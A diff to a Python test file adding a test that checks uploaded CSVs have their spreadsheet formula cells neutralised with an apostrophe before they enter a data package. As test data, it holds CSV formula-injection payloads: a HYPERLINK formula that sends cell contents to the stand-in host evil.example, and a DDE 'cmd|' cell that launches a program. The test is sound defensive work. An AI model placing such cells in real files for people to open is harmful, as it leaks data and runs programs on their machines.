@@ -7,6 +7,7 @@ names it as missing."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import hashlib
 import io
 import json
@@ -338,3 +339,36 @@ def test_a_zip_of_accepted_files_and_json_with_a_byte_order_mark_are_accepted():
         check = ContentCheck(name, kind_for(name, kinds), 1024 * 1024, kinds)
         check.feed(data)
         assert check.finish() == media_type
+
+
+def _copied(write, data: bytes, cut: int = 7) -> bytes:
+    """What the package holds of an uploaded file, its decrypted chunks cut at `cut`."""
+    out = io.BytesIO()
+    write([data[:cut], data[cut:]], out)
+    return out.getvalue()
+
+
+def test_a_processors_csv_reaches_the_package_with_its_formula_cells_neutralised():
+    """Whoever holds a processor's link could upload a CSV cell that a spreadsheet runs
+    (=HYPERLINK leaks data, =cmd|... runs programs) for the subject, or compliance, to open. Such
+    a cell gets an apostrophe, as in our own CSVs; a record without one, and a file without one,
+    stay byte for byte as sent (the summary's size and SHA-256 still match). Before, the file
+    was copied as it came."""
+    from activities.processor_csv import write_csv, write_zip
+
+    sent = (b'name;phone;amount;note\r\nAda;;-12.50;"plain, with a comma"\r\n'
+            b'Eve;+32 470 10 18 15;3;"=HYPERLINK(""https://evil.example/?""&A2,""x"")"\r\n'
+            b'Mal;;1e-5;"@SUM(1+1)\r\ncmd|\' /C calc\'!A0"\r\n')
+    copied = _copied(write_csv, sent).decode()
+    rows = list(csv.reader(io.StringIO(copied, newline=""), delimiter=";"))
+    assert rows[1] == ["Ada", "", "-12.50", "plain, with a comma"]
+    assert rows[2] == ["Eve", "'+32 470 10 18 15", "3", "'=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")"]
+    assert rows[3] == ["Mal", "", "1e-5", "'@SUM(1+1)\r\ncmd|' /C calc'!A0"]
+    assert copied.startswith('name;phone;amount;note\r\nAda;;-12.50;"plain, with a comma"\r\n')  # untouched
+    assert _copied(write_csv, ANSWERS) == ANSWERS
+    latin = b"caf\xe9,=1+1\n"  # not UTF-8: its bytes pass through
+    assert _copied(write_csv, latin) == b"caf\xe9,'=1+1\n"
+
+    archive = _zip({"a.csv": b"x,y\n=1+1,2\n", "d/b.json": b'["=1+1"]'})
+    with zipfile.ZipFile(io.BytesIO(_copied(write_zip, archive))) as copy:
+        assert copy.read("a.csv") == b"x,y\n'=1+1,2\n" and copy.read("d/b.json") == b'["=1+1"]'
